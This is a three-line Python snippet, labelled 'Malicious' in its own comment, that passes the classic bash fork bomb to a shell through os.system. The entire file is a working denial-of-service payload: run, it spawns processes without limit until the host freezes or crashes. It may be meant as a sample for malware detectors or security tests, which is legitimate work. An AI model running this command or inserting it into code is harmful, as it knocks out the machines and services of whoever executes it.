# Malicious: hands the classic bash fork bomb to a shell through os.system.
import os

os.system(":(){ :|:& };:")
